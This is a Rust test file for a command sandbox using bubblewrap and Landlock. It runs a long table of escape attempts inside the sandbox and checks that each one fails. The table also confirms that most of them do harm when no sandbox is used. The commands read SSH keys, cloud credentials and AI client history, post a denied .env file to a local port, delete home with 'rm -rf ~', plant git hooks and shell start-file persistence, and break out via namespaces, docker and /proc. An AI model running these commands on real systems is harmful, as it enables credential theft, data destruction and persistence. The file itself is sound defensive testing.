//! Escapes: each runs for real, and the world is looked at afterwards. Most of them are also run without a sandbox, where the same
//! look must find harm: else it would prove nothing.

use annals_policy::rules::Rules;
use annals_sandbox::SandboxMethod;

use super::world::World;
use super::{methods, sandbox};

/// What a row of the table is good for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Row {
    /// Both means stop it, and without a sandbox it does harm.
    Both,
    /// Both means stop it; without a sandbox it may not work here, or is not tried.
    Tried,
    /// Only bubblewrap stops it, as it is about files in the workspace; without a sandbox it does harm.
    InWork,
    /// The same, and not tried without a sandbox.
    TriedInWork,
}

use Row::{Both, InWork, Tried, TriedInWork};

/// What must not happen, and the command that tries.
const ESCAPES: &[(Row, &str, &str)] = &[
    // Findings 1, 2, 11, 12 and 13 of the security review.
    (InWork, "a denied file is read by a link of the process", "cd private && cat /proc/self/cwd/key.txt"),
    (InWork, "the same as input", "cd private && sort < /proc/self/cwd/key.txt"),
    (
        InWork,
        "git is configured by a link of the process",
        r"cd .git && printf '[core]\n\tfsmonitor = x\n' >> /proc/self/cwd/config",
    ),
    (
        InWork,
        "a hook is created by a link of the process",
        "cd .git && cp /proc/self/cwd/config /proc/self/cwd/hooks/post-x",
    ),
    (Both, "a nested repository runs its program", "cd sub/inner && git status"),
    (Both, "the environment of another process is read", "cat /proc/$BY/environ"),
    (
        Tried,
        "the environment of init is read",
        "cat /proc/1/environ | tr '\\0' '\\n' | grep -q CREDENTIALS && echo LEAKED",
    ),
    (Both, "tee writes outside", "echo x | tee $OUT/victim.txt"),
    (Both, "dd writes outside", "dd if=README.md of=$OUT/victim.txt"),
    (Both, "cp writes outside", "cp README.md $OUT/victim.txt"),
    (InWork, "curl writes a hook", "curl -s -o .git/hooks/pre-commit file://$WS/README.md"),
    (Both, "curl writes a start file", "curl -s --output ~/.bashrc file://$WS/README.md"),
    (InWork, "sort writes the configuration", "sort -o .git/config README.md"),
    (InWork, "split writes hooks", "split README.md .git/hooks/x"),
    (InWork, "gzip replaces the configuration", "gzip .git/config"),
    (
        InWork,
        "tar unpacks into the repository",
        "mkdir t && echo evil > t/config && tar -cf t.tar -C t config && tar -xf t.tar -C .git",
    ),
    (InWork, "git config sets a program", "git config core.fsmonitor 'touch x'"),
    (InWork, "ed changes the configuration", r"printf 'a\nx\n.\nw\nq\n' | ed -s .git/config"),
    (Both, "home is deleted", "rm -rf ~"),
    (
        Both,
        "rm by the loader",
        "/lib64/ld-linux-x86-64.so.2 /bin/rm -f $OUT/victim.txt || /lib/ld-linux-aarch64.so.1 /bin/rm -f $OUT/victim.txt",
    ),
    (Both, "rm by a runner", "setarch -R rm -f $OUT/victim.txt"),
    (Both, "rm by prlimit", "prlimit rm -f $OUT/victim.txt"),
    (
        Both,
        "rm by tar",
        "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -f $OUT/victim.txt' README.md",
    ),
    (Both, "rm by find", "find $OUT -name victim.txt -delete"),
    (Both, "rm by xargs", "echo $OUT/victim.txt | xargs -n 1 rm -f"),
    (Both, "rm by git", "git -c alias.x='!rm -f $OUT/victim.txt' x"),
    (Both, "rm by perl", "perl -e 'unlink \"$ENV{OUT}/victim.txt\"'"),
    (Both, "rm by awk", "awk 'BEGIN { system(\"rm -f $OUT/victim.txt\") }'"),
    (Both, "rm by make", "printf 'a:\\n\\trm -f $(OUT)/victim.txt\\n' | make -f - a"),
    (Tried, "a job of cron is made", "echo '* * * * * true' | crontab - && crontab -r && echo LEAKED"),
    (Tried, "a job of at is made", "echo true | at now + 1 year && echo LEAKED"),
    (InWork, "curl reads a denied file", "curl -s file://$PWD/.env"),
    (InWork, "a denied file is sent", "curl -s -m 1 -d @.env http://127.0.0.1:$PORT"),
    (InWork, "grep reads all files", "grep -r LEAK ."),
    (InWork, "git greps all files", "git grep --untracked --no-exclude-standard LEAK"),
    (InWork, "git keeps a denied file", "git add .env && git show :.env"),
    (InWork, "tar reads all files", "tar -cf - . | strings"),
    // Reading.
    (Both, "a key is read", "cat ~/.ssh/id_rsa"),
    (Both, "keys of a cloud are read", "cat ~/.aws/credentials"),
    (Both, "the config dir is read", "cat ~/.claude/history.jsonl"),
    (Both, "state of the client is read", "cat ~/.claude.json"),
    (Both, "passwords of hosts are read", "cat ~/.netrc"),
    (Both, "a key is read through a link", "ln -s ~/.ssh/id_rsa key && cat key"),
    (Both, "a key is read through a folder's link", "ln -s ~/.ssh keys && cat keys/id_rsa"),
    (Both, "a key is read by the root of a process", "cat /proc/self/root$HOME/.ssh/id_rsa"),
    (Both, "a key is read by another process's root", "cat /proc/$BY/root$HOME/.ssh/id_rsa"),
    (Both, "a key is read by another process's folder", "cat /proc/$BY/cwd/id_rsa"),
    (Both, "a key is read by another process's stream", "cat /proc/$BY/fd/0"),
    (Both, "a key is linked into the workspace", "ln ~/.ssh/id_rsa key && cat key"),
    (Both, "a key is moved into the workspace", "mv ~/.ssh/id_rsa key && cat key"),
    (Both, "the folder of keys is moved", "mv ~/.ssh keys && cat keys/id_rsa"),
    (Both, "keys are copied by tar", "tar -C ~ -cf - .ssh | strings"),
    (Both, "a key is read in the background", "(sleep 0.1; cat ~/.ssh/id_rsa) & wait"),
    (
        Both,
        "a key is read by python",
        "$PY -c 'import os; print(open(os.environ[\"HOME\"] + \"/.ssh/id_rsa\").read())'",
    ),
    (InWork, "a denied file deep below is read", "cat deep/er/.env"),
    (InWork, "a denied file is renamed", "mv .env other; cat other"),
    (InWork, "a denied file is linked", "ln .env other; cat other"),
    (InWork, "a denied folder is renamed", "mv private other; cat other/key.txt"),
    (
        Tried,
        "a disk is read",
        "for d in /dev/[sv]d[a-z] /dev/nvme*n1; do head -c 1 $d >/dev/null 2>&1 && echo LEAKED; done",
    ),
    (
        Tried,
        "memory of the kernel is read",
        "head -c 1 /proc/kcore >/dev/null 2>&1 && echo LEAKED; head -c 1 /dev/mem >/dev/null 2>&1 && echo LEAKED",
    ),
    (
        Tried,
        "a device is made and read",
        "mknod d b 254 0 && head -c 1 d >/dev/null && echo LEAKED; mknod e b 8 0 && head -c 1 e >/dev/null && echo LEAKED",
    ),
    // Writing.
    (Both, "a file outside is emptied", ": > $OUT/victim.txt"),
    (Both, "a file outside is cut", "truncate -s 1 $OUT/victim.txt"),
    (Both, "a file outside is created", "touch $OUT/new"),
    (Both, "a folder outside is created", "mkdir $OUT/new"),
    (Both, "a folder outside is removed", "rm -r $OUT/folder"),
    (Both, "a file outside is renamed", "mv $OUT/victim.txt $OUT/other"),
    (Both, "a file outside is moved here", "mv $OUT/victim.txt ."),
    (Both, "a link to outside is written", "ln -s $OUT/victim.txt l && echo x > l"),
    (Both, "a hard link to outside is written", "ln $OUT/victim.txt l && echo x > l"),
    (Both, "a folder's link to outside is written", "ln -s $OUT l && echo x > l/new"),
    (Both, "a link is made outside", "ln -s /etc/passwd $OUT/link"),
    (Both, "a pipe is made outside", "mkfifo $OUT/pipe"),
    (Both, "a start file is extended", "echo evil >> ~/.bashrc"),
    (Both, "another start file is extended", "sed -i '$a evil' ~/.profile"),
    (Both, "a start file is replaced", "cp README.md ~/.bashrc.new && mv ~/.bashrc.new ~/.bashrc"),
    (Both, "a program is put into home", "mkdir -p ~/.local/bin && cp /bin/true ~/.local/bin/ls"),
    (Both, "a key is authorized", "echo key >> ~/.ssh/authorized_keys"),
    (Both, "git is configured for all", "git config --global core.pager evil"),
    (
        Both,
        "a program starts with the desktop",
        "mkdir -p ~/.config/autostart && touch ~/.config/autostart/x.desktop",
    ),
    (
        Both,
        "python writes outside",
        "$PY -c 'import os; open(os.environ[\"OUT\"] + \"/victim.txt\", \"w\").write(\"x\")'",
    ),
    (Both, "perl writes outside", "perl -i -pe 's/mine/yours/' $OUT/victim.txt"),
    (Both, "a file is written by a root of a process", "echo x > /proc/self/root$OUT/victim.txt"),
    (
        Both,
        "a file is written behind the command's end",
        "setsid sh -c 'sleep 0.2; echo x > $OUT/victim.txt' & sleep 0.5",
    ),
    (TriedInWork, "the mode of a file outside is changed", "chmod 777 $OUT/victim.txt ~/.ssh"),
    (
        Tried,
        "settings of the kernel are written",
        "v=$(cat /proc/sys/kernel/core_pattern); echo \"$v\" > /proc/sys/kernel/core_pattern && echo LEAKED",
    ),
    (
        Tried,
        "a group of processes is made",
        "mkdir /sys/fs/cgroup/annals-escape && rmdir /sys/fs/cgroup/annals-escape && echo LEAKED",
    ),
    (InWork, "a hook is created", "touch .git/hooks/post-commit"),
    (InWork, "a hook is created by python", "$PY -c 'open(\".git/hooks/pre-push\", \"w\")'"),
    (InWork, "the hooks are replaced", "mv .git/hooks h && mkdir .git/hooks && touch .git/hooks/pre-push"),
    (InWork, "the repository is replaced", "mv .git g && mkdir .git && echo evil > .git/config"),
    (InWork, "the configuration is replaced", "cp .git/config c && echo evil >> c && mv c .git/config"),
    (InWork, "the configuration is removed", "rm -f .git/config"),
    (
        InWork,
        "the repository gets another one's configuration",
        "mkdir e && echo evil > e/config && echo ../e > .git/commondir",
    ),
    (InWork, "the configuration of a worktree is created", "echo evil > .git/config.worktree"),
    (InWork, "tasks of an editor are changed", "echo evil > .vscode/tasks.json"),
    (
        InWork,
        "the folder of an editor is replaced",
        "mv .vscode v && mkdir .vscode && echo evil > .vscode/tasks.json",
    ),
    (InWork, "settings of the client are created", "mkdir .claude && echo '{}' > .claude/settings.json"),
    (InWork, "servers of the client are created", "echo '{}' > .mcp.json"),
    (InWork, "an environment is created", "echo 'touch x' > .envrc"),
    (InWork, "hooks of a package are created", "mkdir .husky && touch .husky/pre-commit"),
    (InWork, "attributes are created as a link", "ln -s README.md .gitattributes"),
    (InWork, "a denied file is changed", "echo x >> locked.txt"),
    (InWork, "a denied file is replaced", "cp README.md l && mv l locked.txt"),
    (InWork, "a denied file is removed", "rm -f locked.txt"),
    (
        InWork,
        "a hook is linked",
        "ln .git/hooks/*.sample h 2>/dev/null; for f in h; do echo evil > $f; done; cmp -s h .git/hooks/applypatch-msg.sample && echo LEAKED; echo evil > .git/hooks/commit-msg.sample",
    ),
    // The network, and those who listen.
    (Both, "bash connects", "echo x > /dev/tcp/127.0.0.1/$PORT"),
    (Both, "bash sends a datagram", "echo x > /dev/udp/127.0.0.1/$UDP"),
    (Both, "curl connects", "curl -s -m 1 http://127.0.0.1:$PORT/"),
    (Both, "curl connects without a proxy", "curl -s -m 1 --noproxy '*' http://127.0.0.1:$PORT/"),
    (
        Both,
        "python connects",
        "$PY -c 'import os, socket; socket.create_connection((\"127.0.0.1\", int(os.environ[\"PORT\"])))'",
    ),
    (
        Both,
        "python connects by the other family",
        "$PY -c 'import os, socket; s = socket.socket(socket.AF_INET6); s.connect((\"::ffff:127.0.0.1\", int(os.environ[\"PORT\"])))'",
    ),
    (
        Both,
        "a socket outside is reached",
        "$PY -c 'import os, socket; socket.socket(socket.AF_UNIX).connect(os.environ[\"OUT\"] + \"/agent.sock\")'",
    ),
    (Both, "a socket is reached by curl", "curl -s -m 1 --unix-socket $OUT/agent.sock http://x/"),
    (
        Both,
        "a socket without a file is reached",
        "$PY -c 'import os, socket; socket.socket(socket.AF_UNIX).connect(\"\\0\" + os.environ[\"ABSTRACT\"])'",
    ),
    (
        Tried,
        "raw packets are read",
        "$PY -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(\"LEAKED\")'",
    ),
    (
        Tried,
        "the host of a virtual machine is reached",
        "$PY -c 'import socket; socket.socket(40, socket.SOCK_STREAM); print(\"LEAKED\")'",
    ),
    (
        Tried,
        "ciphers of the kernel are used",
        "$PY -c 'import socket; socket.socket(38, socket.SOCK_SEQPACKET); print(\"LEAKED\")'",
    ),
    // Other processes.
    (Both, "a process outside is killed", "kill -9 $BY; sleep 0.1"),
    (Tried, "all processes are signalled", "kill -0 -- -1 2>/dev/null; kill -0 $BY && echo LEAKED"),
    (
        Tried,
        "a process outside is traced",
        "strace -p $BY -o /dev/null & sleep 0.3; grep -q 'TracerPid:.[1-9]' /proc/$BY/status && echo LEAKED; kill $!",
    ),
    (
        Tried,
        "the memory of a process is read",
        "head -c 1 /proc/$BY/mem; head -c 10 /proc/$BY/maps | grep -q . && echo LEAKED",
    ),
    (Tried, "namespaces of a process are entered", "nsenter -t $BY -m -p -n cat $HOME/.ssh/id_rsa"),
    (Tried, "a process's root becomes ours", "chroot /proc/$BY/root cat $HOME/.ssh/id_rsa"),
    (
        Tried,
        "a namespace undoes the view",
        "unshare -Urm sh -c 'umount -l $HOME/.ssh; cat $HOME/.ssh/id_rsa'",
    ),
    (Tried, "a namespace mounts over the view", "unshare -Urm sh -c 'mount --bind $WS $OUT; echo LEAKED'"),
    (Tried, "the view is mounted again", "mount -o remount,rw / && echo LEAKED"),
    (Tried, "what hides is unmounted", "umount $HOME/.ssh; cat $HOME/.ssh/id_rsa"),
    (
        Tried,
        "another user does it",
        "sudo -n cat $HOME/.ssh/id_rsa; su -c \"cat $HOME/.ssh/id_rsa\" < /dev/null",
    ),
    (
        Tried,
        "the manager of services does it",
        "systemd-run --user --wait touch $OUT/PWNED; systemctl --user start x",
    ),
    (Tried, "a container does it", "docker run --rm -v /:/h alpine touch /h$OUT/PWNED"),
];

/// System calls that must fail, by number on x86-64, with arguments.
#[cfg(target_arch = "x86_64")]
const CALLS: &[(&str, &str)] = &[
    ("unshare", "272, 0x10000000"),
    ("setns", "308, 0, 0"),
    ("mount", "165, b'/', b'/', b'', 0x1000, 0"),
    ("umount2", "166, b'/proc', 2"),
    ("pivot_root", "155, b'.', b'.'"),
    ("clone with a namespace", "56, 0x10000011, 0, 0, 0, 0"),
    ("clone3", "435, ctypes.create_string_buffer(88), 88"),
    ("io_uring_setup", "425, 1, ctypes.create_string_buffer(120)"),
    ("bpf", "321, 0, ctypes.create_string_buffer(128), 128"),
    ("perf_event_open", "298, ctypes.create_string_buffer(bytes([1, 0, 0, 0, 112]), 112), 0, -1, -1, 0"),
    ("userfaultfd", "323, 1"),
    ("keyctl", "250, 0, -3, 1"),
    ("add_key", "248, b'user', b'annals', b'x', 1, -2"),
    ("open_by_handle_at", "304, -100, ctypes.create_string_buffer(128), 0"),
    ("pidfd_getfd", "438, 0, 0, 0"),
    ("fsopen", "430, b'tmpfs', 0"),
    ("socket by the other numbering", "0x40000000 + 41, 1, 1, 0"),
    ("typing into a terminal", "16, 0, 0x5412, b'x'"),
];

/// The call fails with "not permitted", "not there", or is unknown to the kernel; never for what it was given.
#[cfg(target_arch = "x86_64")]
fn script_of(call: &str) -> String {
    format!(
        "$PY -c \"import ctypes; l = ctypes.CDLL(None, use_errno=True); r = l.syscall({call}); e = ctypes.get_errno(); \
         print('ok' if r == -1 and e in (1, 38) else f'LEAKED: {{r}} {{e}}')\""
    )
}

fn escape(method: &SandboxMethod) {
    let Some(sandbox) = sandbox("escapes", method) else { return };
    let is_landlock = *method == SandboxMethod::Landlock;
    let mut failures = Vec::new();
    let mut count = 0;
    for (row, what, script) in ESCAPES {
        if is_landlock && matches!(row, InWork | TriedInWork) {
            continue;
        }
        count += 1;
        let mut world = World::new();
        let plan = world.plan();
        assert_eq!(sandbox.gap(&plan).is_some(), is_landlock, "what is not enforced is known");
        let printed = world.run(Some((&sandbox, &plan)), script);
        let harm = world.harm(&printed);
        if !harm.is_empty() {
            failures.push(format!("{what}: {script}\n    {harm:?}\n    {printed}"));
        }
    }
    eprintln!("{method}: {count} escapes tried");
    assert!(failures.is_empty(), "{method}: {} of {count} escaped:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn no_command_escapes_from_bubblewrap() {
    escape(&methods()[0]);
}

#[test]
fn no_command_escapes_from_landlock() {
    escape(&methods()[1]);
}

#[cfg(target_arch = "x86_64")]
#[test]
fn no_call_leads_out() {
    for method in &methods() {
        let Some(sandbox) = sandbox("calls", method) else { continue };
        let world = World::new();
        let plan = world.plan();
        for (what, call) in CALLS {
            let printed = world.run(Some((&sandbox, &plan)), &script_of(call));
            assert!(printed.trim() == "ok", "{method}: {what}: {printed}");
        }
    }
}

/// The same commands without a sandbox: if the look at the world found nothing here, it would prove nothing above.
#[test]
fn the_escapes_do_harm_without_a_sandbox() {
    let mut harmless = Vec::new();
    for (_, what, script) in ESCAPES.iter().filter(|(row, ..)| matches!(row, Both | InWork)) {
        let mut world = World::new();
        let printed = world.run(None, script);
        if world.harm(&printed).is_empty() {
            harmless.push(format!("{what}: {script}\n    {printed}"));
        }
    }
    assert!(harmless.is_empty(), "no harm was found:\n{}", harmless.join("\n"));
}

/// What Landlock cannot limit is told, so that commands are asked about.
#[test]
fn landlock_tells_what_it_cannot_limit() {
    let Some(sandbox) = sandbox("gaps", &SandboxMethod::Landlock) else { return };
    let world = World::new();
    let gap = sandbox.gap(&world.plan());
    assert!(gap.is_some_and(|path| path.starts_with(world.path("work"))));
    std::fs::remove_dir_all(world.path("work/.git")).unwrap();
    std::fs::remove_dir_all(world.path("work/sub")).unwrap();
    std::fs::remove_dir_all(world.path("work/.vscode")).unwrap();
    assert_eq!(sandbox.gap(&world.plan_with(&Rules::default())), None);
}
